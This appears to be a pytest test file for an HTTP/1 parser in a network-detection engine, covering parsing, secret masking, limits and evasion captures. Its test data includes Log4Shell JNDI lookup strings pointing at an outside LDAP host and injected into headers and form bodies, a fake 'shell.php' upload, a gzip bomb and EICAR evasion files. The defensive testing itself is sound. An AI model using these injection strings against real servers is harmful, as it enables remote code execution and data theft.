"""HTTP/1 and its evasions: conversations made here, and public captures by their own answers."""

from __future__ import annotations

import base64
import gzip
import json
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from khien_engine.packet import PacketSettings

from tests.engine.packet.conversation import Conversation, Turn, capture
from tests.engine.packet.reading import Reading, read

#: Checksums are left out of conversations that are made here.
SETTINGS = PacketSettings(checksums="off")
Write = Callable[[bytes], str]


def talk(write: Write, *turns: Turn, cut: int = 1_400, settings: PacketSettings = SETTINGS) -> Reading:
    return read(write(capture(Conversation(turns=turns, cut=cut))), settings)


def ask(target: str, *fields: str, method: str = "GET", body: bytes = b"") -> Turn:
    lines = [f"{method} {target} HTTP/1.1", "Host: web.vn", *fields]
    return (True, "\r\n".join([*lines, "", ""]).encode() + body)


def answer(*fields: str, status: str = "200 OK", body: bytes = b"") -> Turn:
    lines = [f"HTTP/1.1 {status}", *fields]
    return (False, "\r\n".join([*lines, "", ""]).encode() + body)


def chunked(*pieces: bytes, trailer: str = "") -> bytes:
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces)
    return chunks + b"0\r\n" + trailer.encode() + b"\r\n"


def anomalies(reading: Reading) -> set[str]:
    return {event["khien"]["anomaly"]["name"] for event in reading.events("network.anomaly")}


def seen(reading: Reading) -> list[object]:
    """What is told, without the packets that told it."""
    told: list[object] = []
    for dataset in ("network.http", "network.file"):
        for event in reading.events(dataset):
            own = {key: value for key, value in event["khien"].items() if key not in {"packet", "flow"}}
            told.append((dataset, event.get("url"), event["http"], event.get("file"), own))
    return told


#: A conversation with all that is regular: pipelining, interim answers, chunks in gzip with a trailer, answers without a body.
REGULAR: tuple[Turn, ...] = (
    ask("/a.txt?x=1", "User-Agent: thử"),
    ask("/b", "Expect: 100-continue", "Content-Length: 5", method="PUT", body=b"hello"),
    ask("/c", method="HEAD"),
    answer("Content-Encoding: gzip", "Transfer-Encoding: chunked", body=chunked(gzip.compress(b"x" * 500), trailer="Sum: 7\r\n")),
    answer(status="100 Continue"),
    answer(status="204 No Content"),
    answer("Content-Length: 100"),
    ask("/d"),
    answer("ETag: 1", "Content-Length: 9", status="304 Not Modified"),
    ask(
        "/e",
        "Content-Type: multipart/form-data; boundary=B",
        "Content-Length: 92",
        method="POST",
        body=(b'--B\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\n<?php evil();\r\n--B--\r\n'),
    ),
    answer("Content-Length: 2", body=b"ok"),
    ask("/f"),
    answer("Connection: close", body=b"to the end"),
)


def test_all_that_is_regular_is_told(write_capture: Write) -> None:
    reading = talk(write_capture, *REGULAR)
    assert anomalies(reading) == set()
    told = [
        (event["url"]["path"], event["http"]["response"]["status_code"], event["http"]["response"]["body"]["bytes"])
        for event in reading.events("network.http")
    ]
    assert told == [
        ("/a.txt", 200, len(gzip.compress(b"x" * 500))),
        ("/b", 204, 0),
        ("/c", 200, 0),
        ("/d", 304, 0),
        ("/e", 200, 2),
        ("/f", 200, 10),
    ]
    first, second, *_ = (event["khien"]["http"] for event in reading.events("network.http"))
    assert first["response_unpacked_bytes"] == 500
    assert first["response_trailers"] == [{"name": "Sum", "value": "7"}]
    assert (second["info_code"], second["info_msg"]) == (100, "Continue")
    files = [
        (event["file"]["name"], event["file"]["size"], event["khien"]["file"].get("part"))
        for event in reading.events("network.file")
    ]
    assert files == [("b", 5, None), ("a.txt", 500, None), ("shell.php", 13, 1), ("e", 2, None), ("f", 10, None)]


@pytest.mark.parametrize("cut", [1, 2, 3, 7, 64])
def test_segments_cut_anywhere_tell_the_same(write_capture: Write, cut: int) -> None:
    assert seen(talk(write_capture, *REGULAR, cut=cut)) == seen(talk(write_capture, *REGULAR))


def test_the_user_is_told_and_the_secrets_are_not(write_capture: Write) -> None:
    token = base64.b64encode(b"an:mat khau").decode()
    turns = (ask("/", f"Authorization: Basic {token}", "Cookie: session=1"), answer("Content-Length: 0"))
    (event,) = talk(write_capture, *turns).events("network.http")
    assert (event["url"]["username"], event["url"]["password"]) == ("an", "***")
    assert event["user"]["name"] == "an"
    values = {field["name"]: field["value"] for field in event["khien"]["http"]["request_headers"]}
    assert values == {"Host": "web.vn", "Authorization": "***", "Cookie": "***"}
    shown = talk(write_capture, *turns, settings=PacketSettings(checksums="off", capture_secrets=True))
    assert shown.events("network.http")[0]["url"]["password"] == "mat khau"


def test_an_expression_in_a_secret_or_a_form_is_told_and_what_is_around_it_is_not(write_capture: Write) -> None:
    form = b"uname=%24%7Bjndi:ldap://203.0.113.9/a%7D&password=mat+khau"
    fields = ("Authorization: Bearer ${jndi:ldap://203.0.113.9/b}", "Cookie: session=1; x=${env:HOME}")
    kinds = ("application/x-www-form-urlencoded", "application/octet-stream")
    for kind in kinds:
        turns = (
            ask("/login", *fields, f"Content-Type: {kind}", f"Content-Length: {len(form)}", method="POST", body=form),
            answer("Content-Length: 0"),
        )
        for cut in (1, 1_400):
            reading = talk(write_capture, *turns, cut=cut)
            (event,) = reading.events("network.http")
            values = {field["name"]: field["value"] for field in event["khien"]["http"]["request_headers"]}
            assert values["Authorization"] == "***${jndi:ldap://203.0.113.9/b}"
            assert values["Cookie"] == "***${env:HOME}"
            content = "***%24%7Bjndi:ldap://203.0.113.9/a%7D***" if kind == kinds[0] else None
            assert event["http"]["request"]["body"].get("content") == content
            assert b"khau" not in reading.lines
    off = talk(write_capture, *turns, settings=PacketSettings(checksums="off", http_request_text=0))
    assert "content" not in off.events("network.http")[0]["http"]["request"]["body"]


def test_a_form_is_searched_as_far_as_the_setting_says_and_the_rest_is_counted(write_capture: Write) -> None:
    for before, is_told in ((4_000, True), (4_096, False)):
        form = b"a" * before + b"${jndi:dns://x}"
        head = ("Content-Type: text/plain", f"Content-Length: {len(form)}")
        reading = talk(write_capture, ask("/", *head, method="POST", body=form), answer("Content-Length: 0"))
        (event,) = reading.events("network.http")
        assert event["http"]["request"]["body"].get("content") == ("***${jndi:dns://x}" if is_told else None)
        assert reading.stats["limits"] == ({} if is_told else {"http_request_text": 1})


def test_neither_recording_of_log4shell_hides_it(captures: Path) -> None:
    found = {}
    for path in sorted((captures / "attacks/cve-2021-44228").glob("*.pcap")):
        events = read(str(path), PacketSettings(checksums="off")).events("network.http")
        events.sort(key=lambda event: event["event"]["start"])
        found[path.name[:5]] = [json.dumps(event).count("${jndi:ldap://") for event in events]
    # tshark -Y http.request: the second and third log-in; the bearer token.
    assert found == {"log4j": [0, 1, 1, 0], "spcap": [1]}


def test_a_request_of_version_0_9_is_answered_by_a_body_alone(write_capture: Write) -> None:
    for cut in (1, 1_400):
        reading = talk(write_capture, (True, b"GET /old\r\n"), (False, b"<html>no status line</html>"), cut=cut)
        (event,) = reading.events("network.http")
        assert (event["http"]["version"], event["url"]["path"]) == ("0.9", "/old")
        (file,) = reading.events("network.file")
        assert (file["file"]["name"], file["file"]["size"], file["file"]["mime_type"]) == ("old", 27, "text/html")


def test_the_protocol_inside_a_tunnel_is_recognised(write_capture: Write) -> None:
    tunnel = (True, b"CONNECT inside.vn:80 HTTP/1.1\r\n\r\n")
    reading = talk(
        write_capture, tunnel, answer(status="200 Connection established"), ask("/in"), answer("Content-Length: 1", body=b"x")
    )
    outer, inner = reading.events("network.http")
    assert (outer["http"]["request"]["method"], outer["url"]["domain"], outer["url"]["port"]) == ("CONNECT", "inside.vn", 80)
    assert (inner["url"]["path"], inner["khien"]["tx"]) == ("/in", 0)


def test_requests_beyond_512_are_told_without_their_answer_and_counted(write_capture: Write) -> None:
    reading = talk(write_capture, *(ask(f"/{number}") for number in range(600)))
    assert len(reading.events("network.http")) == 600
    assert reading.stats["limits"]["http_open_transactions"] == 88


@pytest.mark.parametrize(
    "field",
    ["X: " + "a" * 70_000, "\r\n".join(f"X{number}: {number}" for number in range(10_000)), "X: a" + "\r\n b" * 20_000],
)
def test_a_head_beyond_64_kib_ends_the_parser_and_is_told(write_capture: Write, field: str) -> None:
    reading = talk(write_capture, ask("/", field))
    assert anomalies(reading) == {"http_header_too_long"}
    assert reading.stats["limits"]["http_head_bytes"] == 1


def test_a_bomb_is_stopped_at_its_bound_and_told(write_capture: Write) -> None:
    body = gzip.compress(b"\0" * (20 << 20))
    reading = talk(write_capture, ask("/bomb"), answer("Content-Encoding: gzip", f"Content-Length: {len(body)}", body=body))
    assert anomalies(reading) == {"http_body_bomb"}
    (file,) = reading.events("network.file")
    assert file["khien"]["file"]["state"] == "truncated"
    assert 1 << 20 < file["file"]["size"] <= 16 << 20
    assert "hash" not in file["file"]


def test_three_layers_are_unwrapped_and_a_fourth_is_told(write_capture: Write) -> None:
    body = gzip.compress(zlib.compress(gzip.compress(b"inside")))
    names = "Content-Encoding: gzip, deflate, gzip"
    reading = talk(write_capture, ask("/3"), answer(names, f"Content-Length: {len(body)}", body=body))
    assert reading.events("network.file")[0]["file"]["size"] == 6
    reading = talk(write_capture, ask("/4"), answer(f"{names}, gzip", f"Content-Length: {len(body)}", body=body))
    assert anomalies(reading) >= {"http_body_layers"}


def test_a_server_is_heard_when_its_client_says_nothing_known(write_capture: Write) -> None:
    reading = talk(write_capture, (True, b"\x85\0\0\0garbage"), answer("Content-Length: 4", status="400 Bad Request", body=b"what"))
    (event,) = reading.events("network.http")
    assert event["http"]["response"]["status_code"] == 400
    assert anomalies(reading) == {"http_unmatched_response"}


def events(captures: Path, name: str, dataset: str) -> list[dict[str, Any]]:
    path = next((captures / "suricata-verify" / name).glob("*.pcap*"))
    return read(str(path), SETTINGS).events(dataset)


def test_what_browsers_see_through_every_evasion_is_one_file(captures: Path) -> None:
    """One answer has no head at all though the request asked for HTTP/1.1: it is a file, by the name that was asked for."""
    missed = []
    for folder in sorted((captures / "suricata-verify/http-evader").iterdir()):
        files = events(captures, f"http-evader/{folder.name}", "network.file")
        named = [
            file for file in files if file["file"].get("name") == "eicar.txt" and file["url"]["domain"] == "evader.example.com"
        ]
        if len(named) != 1:
            missed.append(folder.name)
    assert missed == ["http-evader-266"]


@pytest.mark.parametrize(
    ("name", "anomaly"),
    [
        ("http-auth-unrecognized", "http_unknown_authorization"),
        ("http-event-chunk", "http_chunk_extension"),
        ("http-multiple-cl", "http_repeated_length"),
        ("http-not09", "http_missing_version"),
        ("http2-authority-mismatch", "http2_authority_mismatch"),
        ("http2-long-frame", "http2_long_data"),
    ],
)
def test_what_a_rule_of_the_capture_watches_for_is_an_anomaly(captures: Path, name: str, anomaly: str) -> None:
    found = {event["khien"]["anomaly"]["name"] for event in events(captures, name, "network.anomaly")}
    assert anomaly in found
